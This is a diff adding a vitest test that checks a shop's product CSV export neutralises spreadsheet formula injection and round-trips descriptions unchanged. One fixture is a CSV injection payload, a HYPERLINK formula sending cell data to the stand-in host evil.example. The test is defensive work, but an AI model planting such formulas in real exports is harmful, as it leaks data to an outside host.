@@ -1,4 +1,5 @@
-import { and, eq } from 'drizzle-orm';
+import { and, asc, eq, inArray } from 'drizzle-orm';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   CSV_TEXTS,
@@ -425,6 +426,43 @@ describe('CSV', () => {
     expect(answer.body.problems).toEqual([{ line: 3, field: 'id', message: CSV_TEXTS.unknownId('424242') }]);
     const [fresh] = await shop.database.db.select().from(products).where(eq(products.name, 'Fresh Ring'));
     expect(fresh).toBeUndefined();
+  });
+
+  it('exports no cell a spreadsheet would run as a formula, and imports the export back unchanged', async () => {
+    const descriptions = [
+      // A formula broken over two lines, as someone trying to plant a link would write it.
+      '=HYPERLINK("https://evil.example/?x="&B3,\n"Open price list")',
+      '+91 98400 12345 takes orders for this piece by phone.',
+      '-free: no nickel, no lead, for the most sensitive skin.',
+      '@ Madurai, made by the third generation of our goldsmiths.',
+      "'= is how our engravers mark the middle of a ring.",
+    ];
+    const ids: number[] = [];
+    for (const [index, description] of descriptions.entries()) {
+      const created = await call('POST', '/api/admin/products', staff, {
+        ...PIECE,
+        name: `Spreadsheet Piece ${index + 1}`,
+        description,
+      });
+      expect(created.status).toBe(201);
+      ids.push(Number(productOf(created)._id));
+    }
+
+    const exported = await call('GET', '/api/admin/products/export.csv');
+    // Read as a spreadsheet reads it: cells of quoted fields, line breaks and all.
+    const table = Papa.parse<Record<string, string>>(exported.text, { header: true, skipEmptyLines: true });
+    expect(table.errors).toEqual([]);
+    const cells = table.data.filter((row) => ids.includes(Number(row.id))).map((row) => row.description);
+    expect(cells).toHaveLength(descriptions.length);
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    expect(await importCsv(exported.text)).toMatchObject({ status: 200 });
+    const stored = await shop.database.db
+      .select({ description: products.description })
+      .from(products)
+      .where(inArray(products.id, ids))
+      .orderBy(asc(products.id));
+    expect(stored.map((row) => row.description)).toEqual(descriptions);
   });
 
   it('refuses a file without the columns it needs, and one that is no CSV text', async () => {
